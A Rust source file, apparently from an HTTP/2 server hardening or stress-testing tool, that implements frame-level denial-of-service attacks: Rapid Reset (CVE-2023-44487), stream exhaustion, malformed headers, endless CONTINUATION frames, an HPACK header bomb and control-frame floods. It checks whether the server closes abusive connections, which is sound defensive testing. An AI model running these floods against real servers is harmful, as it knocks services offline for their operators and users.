//! Attacks with the frames of HTTP/2 themselves.

use tokio::time::Instant;

use super::{Outcome, flood};
use crate::Scale;
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, EXTRACT, HEADERS, PING, Peer, RST_STREAM, SETTINGS, block, call, frame,
    open_call,
};
use crate::server::Target;

/// The numbers of the streams of a round of this many.
fn streams(round: u32, count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(move |index| 2 * (round * count + index) + 1)
}

/// Calls that are cancelled as soon as they are made (CVE-2023-44487).
pub async fn rapid_reset(target: Target, until: Instant, _: Scale) -> Outcome {
    const CALLS: u32 = 20;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let (rounds, connections) = flood(target, until, |round| {
        let reset = |stream| [open_call(stream, EXTRACT), frame(RST_STREAM, 0, stream, &CANCEL)].concat();
        Some(streams(round, CALLS).flat_map(reset).collect())
    })
    .await;
    Outcome::of(format!("{} resets, {connections} connections", rounds * u64::from(CALLS)))
        .check(connections > 1, "the server never closed")
}

/// As many calls as fit, none of them ever complete.
pub async fn too_many_streams(target: Target, until: Instant, _: Scale) -> Outcome {
    const CALLS: u32 = 100;
    let (rounds, connections) = flood(target, until, |round| {
        (round < 50).then(|| streams(round, CALLS).flat_map(|it| open_call(it, EXTRACT)).collect())
    })
    .await;
    Outcome::of(format!("{} calls, {connections} connections", rounds * u64::from(CALLS)))
}

/// Headers that no call may have: the server must reset each stream (CVE-2025-8671).
pub async fn malformed_headers(target: Target, until: Instant, _: Scale) -> Outcome {
    const CALLS: u32 = 20;
    let blocks = [
        block(&[(":method", "POST")]),
        call(EXTRACT, &[("Upper", "case")]),
        call(EXTRACT, &[(":late", "pseudo")]),
        call(EXTRACT, &[("connection", "close")]),
        call(EXTRACT, &[("content-length", "-1")]),
    ];
    let (rounds, connections) = flood(target, until, |round| {
        let one =
            |stream: u32| frame(HEADERS, END_HEADERS | END_STREAM, stream, &blocks[stream as usize / 2 % blocks.len()]);
        Some(streams(round, CALLS).flat_map(one).collect())
    })
    .await;
    Outcome::of(format!("{} calls, {connections} connections", rounds * u64::from(CALLS)))
        .check(connections > 1, "the server never closed")
}

/// Headers that never end.
pub async fn continuation(target: Target, until: Instant, _: Scale) -> Outcome {
    let filler = block(&[("x", "y"); 2000]);
    let (rounds, connections) = flood(target, until, |round| {
        Some(match round {
            0 => frame(HEADERS, 0, 1, &call(EXTRACT, &[])),
            _ => frame(CONTINUATION, 0, 1, &filler),
        })
    })
    .await;
    Outcome::of(format!("{rounds} frames, {connections} connections")).check(connections > 1, "the server never closed")
}

/// One long header, put into the table and then named again and again by one byte.
pub async fn header_bomb(target: Target, until: Instant, _: Scale) -> Outcome {
    // A literal with incremental indexing; 62 is the first entry that is not of the static table (RFC 7541, 2.3.3 and 6.2.1).
    let mut bomb = call(EXTRACT, &[]);
    bomb.push(0x40);
    bomb.extend(&block(&[("bomb", &"x".repeat(3900))])[1..]);
    bomb.extend([0x80 | 62; 8000]);
    let (rounds, connections) =
        flood(target, until, |round| Some(frame(HEADERS, END_HEADERS, 2 * round + 1, &bomb))).await;
    Outcome::of(format!("{rounds} calls of 31 MB of headers, {connections} connections"))
}

/// Frames that ask for an answer which is never read.
pub async fn control_frames(target: Target, until: Instant, _: Scale) -> Outcome {
    let frames: Vec<u8> =
        (0..200).flat_map(|_| [frame(SETTINGS, 0, 0, &[]), frame(PING, 0, 0, &[7; 8])].concat()).collect();
    let (mut sent, mut connections) = (0, 0);
    while Instant::now() < until {
        let Ok(mut peer) = Peer::open(target.address, &[]).await else { continue };
        connections += 1;
        while Instant::now() < until && peer.try_send(&frames).await {
            sent += 400;
        }
    }
    Outcome::of(format!("{sent} frames, {connections} connections"))
}
